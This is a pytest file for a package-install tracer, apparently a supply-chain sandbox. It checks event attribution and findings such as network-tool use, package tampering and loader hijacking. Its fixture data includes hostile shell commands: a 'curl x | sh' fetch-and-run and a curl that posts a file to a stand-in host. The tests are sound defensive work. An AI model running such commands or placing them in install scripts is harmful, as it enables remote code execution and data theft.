# SPDX-License-Identifier: Apache-2.0
"""The parts joined: what comes of a tracer's frames. (Cut and changed streams: tests/trace.)"""

from __future__ import annotations

import os
from collections.abc import Iterable
from dataclasses import dataclass, field, replace

import pytest

import frames
from fpbox import ending
from fpbox.attribute import Attributor
from fpbox.errors import CommandNotExecutable, CommandNotFound
from fpbox.model import TOOLCHAIN, Action, Event, Package, Process, Scope
from fpbox.recipes import Matcher, load_catalogue
from fpbox.session import TIME_LIMIT_REACHED, Output, Session
from fpbox.trace import records, wire
from frames import KIND


@dataclass
class Tracer:
    """Writes a tracer's frames."""

    stream: bytearray = field(default_factory=bytearray)
    strings: int = 0
    events: int = 0

    def say(self, made: bytes) -> bytes:
        self.stream += made
        return made

    def hello(self) -> bytes:
        return self.say(frames.hello())

    def string(self, value: bytes) -> bytes:
        self.strings += 1
        return self.say(frames.string(self.strings, value))

    def image(self, exe: bytes) -> bytes:
        names = self.string(exe) + self.string(b"/home/dev") + self.string(exe + b"\0")
        last = self.strings
        return names + self.say(frames.image(1, exe=last - 2, cwd=last - 1, argv=last))

    def opens(self, path: bytes, times: int = 1) -> bytes:
        name = self.string(path)
        made = [frames.opening(self.events + n, self.strings) for n in range(1, times + 1)]
        self.events += times
        return name + self.say(frames.frame(KIND.EVENTS, b"".join(made)))

    def writes(self, path: bytes, times: int = 1) -> bytes:
        name = self.string(path)
        made = [
            frames.event(self.events + n, call=frames.OPENAT, what=self.strings, arg=os.O_WRONLY | os.O_CREAT)
            for n in range(1, times + 1)
        ]
        self.events += times
        return name + self.say(frames.frame(KIND.EVENTS, b"".join(made)))

    def connects(self, address: bytes) -> bytes:
        name = self.string(address)
        self.events += 1
        made = frames.event(self.events, call=frames.CONNECT, what=self.strings)
        return name + self.say(frames.frame(KIND.EVENTS, made))

    def sleeps(self, seconds: float, flags: int, times: int = 1) -> bytes:
        made = [
            frames.event(self.events + n, call=frames.NANOSLEEP, what=0, arg=int(seconds * 1e9), flags=flags)
            for n in range(1, times + 1)
        ]
        self.events += times
        return self.say(frames.frame(KIND.EVENTS, b"".join(made)))

    def execs(self, who: int, path: bytes, argv: bytes) -> bytes:
        names = self.string(path) + self.string(argv)
        self.events += 1
        made = frames.starting(self.events, self.strings - 1, self.strings, who)
        return names + self.say(frames.frame(KIND.EVENTS, made))

    def becomes(self, number: int, parent: int, argv: bytes, *, kind: int) -> bytes:
        names = self.string(b"/bin/sh") + self.string(b"/home/dev") + self.string(argv)
        last = self.strings
        made = frames.image(number, parent, exe=last - 2, cwd=last - 1, argv=last, kind=kind)
        return names + self.say(made)

    def output(self, data: bytes, stream: int = 1) -> bytes:
        return self.say(frames.frame(KIND.OUTPUT, bytes([stream]) + data))

    def note(self, code: int, said: bytes) -> bytes:
        return self.say(frames.frame(KIND.NOTE, records.NOTE.pack(code, 0, 1) + said))

    def end(self, status: int = 0, reason: int = 0, killed: int = 0) -> bytes:
        return frames.whole_end(bytes(self.stream), self.events, status=status, reason=reason, killed=killed)


@pytest.fixture
def tracer() -> Tracer:
    return Tracer()


def session(seen: list[tuple[Event, int]] | None = None) -> Session:
    on_event = None if seen is None else lambda event, count: seen.append((event, count))
    return Session(Matcher(load_catalogue()), Attributor(), on_event)


def test_output_and_findings_come_in_order(tracer: Tracer) -> None:
    one = session()
    stream = tracer.hello() + tracer.image(b"/usr/bin/python3")
    stream += tracer.output(b"before") + tracer.opens(b"/etc/machine-id") + tracer.output(b"after", 2)
    results = one.feed(stream + tracer.end())
    one.close()
    assert results[0] == Output(1, b"before")
    assert results[-1] == Output(2, b"after")
    assert len(results) > 2
    coverage = one.coverage()
    assert coverage.complete
    assert coverage.calls == 1
    assert one.ran == {(TOOLCHAIN, ""): 1}


def test_whoever_asks_sees_every_event_and_how_often(tracer: Tracer) -> None:
    """Also what no recipe looks at; repetitions come once a batch, with their number."""
    seen: list[tuple[Event, int]] = []
    one = session(seen)
    one.feed(tracer.hello() + tracer.image(b"/bin/x") + tracer.opens(b"/opt/nobody/cares", 3))
    one.feed(tracer.opens(b"/opt/nobody/cares", 2))
    assert {event.object for event, _ in seen} == {"/opt/nobody/cares"}
    assert sum(count for _, count in seen) == 5
    assert len(seen) == 3


def test_skipped_sleeps_are_added_up(tracer: Tracer) -> None:
    one = session()
    one.feed(tracer.hello() + tracer.image(b"/bin/sleep") + tracer.sleeps(1.5, records.EventFlag.SKIPPED, 3))
    one.feed(tracer.sleeps(300, records.EventFlag.SKIPPED) + tracer.sleeps(60, 0) + tracer.end())
    one.close()
    assert one.coverage().notes == ("4 long sleeps of packages' code were skipped, 304.5 s in all",)
    assert one.coverage().complete


def test_nobody_who_asks_costs_nothing(tracer: Tracer) -> None:
    one = session()
    one.feed(tracer.hello() + tracer.image(b"/bin/x") + tracer.opens(b"/opt/nobody/cares", 3))
    assert not one.observer._same


def test_a_broken_stream_is_said_once(tracer: Tracer) -> None:
    one = session()
    one.feed(tracer.hello() + b"\xff" * 64)
    for _ in range(3):
        assert one.feed(b"more") == []
    one.close()
    assert one.broken
    assert len(one.trouble) == 1
    assert not one.coverage().complete


@pytest.mark.parametrize(("status", "kind"), [(127, CommandNotFound), (126, CommandNotExecutable)])
def test_a_command_that_never_began_is_an_error(tracer: Tracer, status: int, kind: type[Exception]) -> None:
    one = session()
    refusal = b"fpbox-init: cannot run nosuch: No such file or directory\n"
    assert one.feed(tracer.hello() + tracer.output(refusal, 2)) == []
    one.feed(tracer.end(status))
    error = ending.never_began(one, "image:1")
    assert type(error) is kind
    assert str(error).startswith("cannot run nosuch: No such file or directory (in the image image:1)")


def test_what_ran_cannot_say_that_it_did_not(tracer: Tracer) -> None:
    one = session()
    claim = b"fpbox-init: cannot run npm: No such file or directory\n"
    stream = tracer.hello() + tracer.image(b"/bin/evil") + tracer.output(claim, 2)
    assert one.feed(stream) == [Output(2, claim)]
    one.feed(tracer.end(127))
    assert ending.never_began(one, "image:1") is None
    assert ending.status(one) == 127


@pytest.mark.parametrize(
    ("reason", "own", "trouble"),
    [
        (wire.Reason.ALL_ENDED, 5, ""),
        (wire.Reason.LINGER_OVER, 5, ""),
        (wire.Reason.TIME_LIMIT, None, TIME_LIMIT_REACHED),
        (wire.Reason.TOLD_TO_STOP, None, "interrupted"),
        (wire.Reason.TRACER_ERROR, None, "tracer failed"),
    ],
)
def test_why_the_trace_ended(tracer: Tracer, reason: wire.Reason, own: int | None, trouble: str) -> None:
    one = session()
    one.feed(tracer.hello() + tracer.image(b"/bin/x") + tracer.end(5, reason, 2))
    one.close()
    assert ending.status(one) == own
    assert one.coverage().complete is (not trouble)
    assert trouble in "".join(one.coverage().trouble)
    assert any("outlived" in note for note in one.coverage().notes) is (reason == wire.Reason.LINGER_OVER)


@pytest.mark.parametrize(
    ("code", "complete"),
    [
        (wire.NoteCode.FEATURE_MISSING, True),
        (wire.NoteCode.CLEANUP_FAILED, True),
        (wire.NoteCode.TABLE_OVERFLOW, False),
        (wire.NoteCode.UNREADABLE, False),
        (wire.NoteCode.TRACER_ERROR, False),
    ],
)
def test_what_the_tracer_notes_counts_or_does_not(
    tracer: Tracer, code: wire.NoteCode, complete: bool
) -> None:
    one = session()
    one.feed(tracer.hello() + tracer.note(code, b"something") + tracer.end())
    coverage = one.coverage()
    assert coverage.complete is complete
    assert "tracer: something" in (*coverage.notes, *coverage.trouble)


class ThirdWorksFor(Attributor):
    """The third image works for a package, everything else for the toolchain."""

    def __init__(self, package: Package) -> None:
        super().__init__()
        self.package = package

    def image(self, process: Process) -> Scope:
        return Scope(self.package if process.image == 3 else TOOLCHAIN)


def started(tracer: Tracer, *, succeeds: bool) -> list[tuple[Package, str]]:
    """An npm tries to start a package's script by way of a fork. Returns whose execs there were."""
    seen: list[Event] = []
    package = Package("pkg:npm/a@1.0.0", "npm", "a", "1.0.0")
    one = Session(Matcher(load_catalogue()), ThirdWorksFor(package), lambda event, _: seen.append(event))
    one.feed(tracer.hello() + tracer.image(b"/usr/bin/npm") + tracer.becomes(2, 1, b"npm\0", kind=1))
    one.feed(tracer.execs(2, b"/bin/sh", b"sh\0-c\0curl x | sh\0"))
    assert not seen
    if succeeds:
        one.feed(tracer.becomes(3, 2, b"sh\0-c\0curl x | sh\0", kind=2))
    one.close()
    return [(event.scope.package, event.detail[-1]) for event in seen if event.action is Action.EXEC]


def test_a_scripts_words_are_its_packages_though_the_manager_starts_it(tracer: Tracer) -> None:
    told = started(tracer, succeeds=True)
    assert [(package.name, words) for package, words in told] == [("a", "curl x | sh")]


def test_an_exec_that_fails_is_of_whoever_tried(tracer: Tracer) -> None:
    assert started(tracer, succeeds=False) == [(TOOLCHAIN, "curl x | sh")]


def test_where_a_search_through_the_path_goes_on_the_program_was_not_there(tracer: Tracer) -> None:
    seen: list[Event] = []
    one = Session(Matcher(load_catalogue()), Attributor(), lambda event, _: seen.append(event))
    one.feed(tracer.hello() + tracer.image(b"/usr/bin/npm") + tracer.becomes(2, 1, b"npm\0", kind=1))
    for folder in (b"/opt/bin", b"/usr/local/bin", b"/usr/bin"):
        one.feed(tracer.execs(2, folder + b"/curl", b"curl\0-sd@x\0https://a.example\0"))
    one.feed(tracer.becomes(3, 2, b"curl\0-sd@x\0https://a.example\0", kind=2))
    tried = {event.object: event.result for event in seen if event.action is Action.EXEC}
    assert tried == {"/opt/bin/curl": "missing", "/usr/local/bin/curl": "missing", "/usr/bin/curl": "ok"}
    (finding,) = (f for found in one.matcher.findings().values() for f in found if f.recipe == "network_tool")
    assert finding.evidence[0].object == "/usr/bin/curl"


class Meddler(Attributor):
    """Everything is a package's, and every write goes into another's."""

    def image(self, process: Process) -> Scope:
        del process
        return Scope(Package("pkg:npm/a@1.0.0", "npm", "a", "1.0.0"))

    def meddles(self, event: Event) -> bool:
        return "/victim/" in event.object

    def leaves(self, event: Event) -> str:
        return "project_file" if event.object.startswith("/app/") else ""


def test_writes_into_the_project_are_marked_each_time_they_are_seen(tracer: Tracer) -> None:
    one = Session(Matcher(load_catalogue()), Meddler())
    one.feed(tracer.hello() + tracer.image(b"/bin/x"))
    for times in (2, 3):
        one.feed(tracer.writes(b"/app/notes.txt", times))
        one.feed(tracer.writes(b"/srv/notes.txt", times))
    (finding,) = (f for found in one.matcher.findings().values() for f in found)
    assert (finding.recipe, finding.importance, finding.count) == ("project_write", "medium", 5)
    assert {evidence.object for evidence in finding.evidence} == {"/app/notes.txt"}


def test_writes_into_another_package_are_marked_each_time_they_are_seen(tracer: Tracer) -> None:
    seen: list[tuple[Event, int]] = []
    one = Session(Matcher(load_catalogue()), Meddler(), lambda event, count: seen.append((event, count)))
    one.feed(tracer.hello() + tracer.image(b"/bin/x"))
    for times in (2, 3):
        one.feed(tracer.writes(b"/app/node_modules/victim/index.js", times))
    assert sum(count for event, count in seen if "foreign_package" in event.flags) == 5
    (finding,) = (f for found in one.matcher.findings().values() for f in found)
    assert (finding.recipe, finding.count) == ("package_tampering", 5)


class Waiter(Attributor):
    """What is written into pip's folder waits for a write to RECORD, and is then another package's."""

    def __init__(self, *, ends: bool) -> None:
        super().__init__()
        self.ends = ends
        self.held: list[Event] = []

    def settle(self, event: Event) -> Iterable[tuple[Event, Scope | None]]:
        if "/pip/" in event.object:
            self.held.append(event)
            return ()
        if not self.ends:
            return ((event, None),)
        other = Scope(Package("pkg:pypi/loud@1.0", "pypi", "loud", "1.0"), "unpack")
        held, self.held = self.held, []
        return (*((one, other) for one in held), (event, None))

    def rest(self) -> Iterable[tuple[Event, Scope | None]]:
        return ((one, None) for one in self.held)


@pytest.mark.parametrize("ends", [True, False])
def test_what_waits_is_judged_as_whose_it_is_and_never_lost(tracer: Tracer, *, ends: bool) -> None:
    seen: list[tuple[Event, int]] = []
    one = Session(
        Matcher(load_catalogue()), Waiter(ends=ends), lambda event, count: seen.append((event, count))
    )
    site = b"/home/dev/.venv/lib/python3.12/site-packages/"
    one.feed(tracer.hello() + tracer.image(b"/usr/bin/python3"))
    one.feed(tracer.writes(site + b"pip/__init__.py", 2))
    assert not seen
    one.feed(tracer.writes(site + b"loud-1.0.dist-info/RECORD"))
    assert len(seen) == (3 if ends else 1)
    one.close()
    (event, count), (_, more) = (pair for pair in seen if "/pip/" in pair[0].object)
    assert (count, more) == (1, 1)
    assert ("foreign_package" in event.flags) is ends
    found = {
        package.purl: {finding.recipe for finding in findings}
        for package, findings in one.matcher.findings().items()
    }
    whose = "pkg:pypi/loud@1.0" if ends else "toolchain"
    assert ("package_tampering" in found.get(whose, ())) is ends
    assert "loader_hijack" in found[whose]


def test_what_the_toolchain_asks_of_a_foreign_host_is_put_down_to_whoever_had_it_ask(tracer: Tracer) -> None:
    asked: list[str] = []

    class Asker(Attributor):
        def asks_for(self, event: Event, host: str) -> Scope | None:
            assert event.object == f"tcp://{host}:443"
            asked.append(host)
            return Scope(Package("pkg:pypi/loud@1.0", "pypi", "loud", "1.0"), "requires", 0.8)

    matcher = Matcher(load_catalogue(), allowed_hosts=frozenset({"192.0.2.1"}))
    one = Session(matcher, Asker())
    one.feed(tracer.hello() + tracer.image(b"/usr/bin/python3"))
    for address in (b"\x02\x00\x01\xbb\xc0\x00\x02\x01", b"\x02\x00\x01\xbb\xf0\x01\x02\x03"):
        one.feed(tracer.connects(address + bytes(8)))
    one.close()
    assert asked == ["240.1.2.3"]
    assert {one.package.purl: one.address for one in matcher.connections()} == {
        "toolchain": "192.0.2.1",
        "pkg:pypi/loud@1.0": "240.1.2.3",
    }


def test_the_program_that_loads_packages_may_end_what_they_left_and_nobody_else_may() -> None:
    seen: list[Event] = []
    first = Session(Matcher(load_catalogue()), Attributor(), lambda event, _: seen.append(event))
    process = Process(1, 0, 10, 1, "/usr/bin/node", ("node",), "/")
    ends = Event(1, 1, process, Scope(TOOLCHAIN), Action.SIGNAL, "kill", "SIGKILL -1")
    child = replace(process, image=2)
    package = replace(ends, scope=Scope(Package("pkg:npm/a@1.0.0")), process=child)
    second = first.follow()
    assert not second._new(ends)
    assert not seen
    assert [finding.recipe for finding in second._new(package)] == ["process_kill"]
    assert [finding.recipe for finding in first._new(ends)] == ["process_kill"]
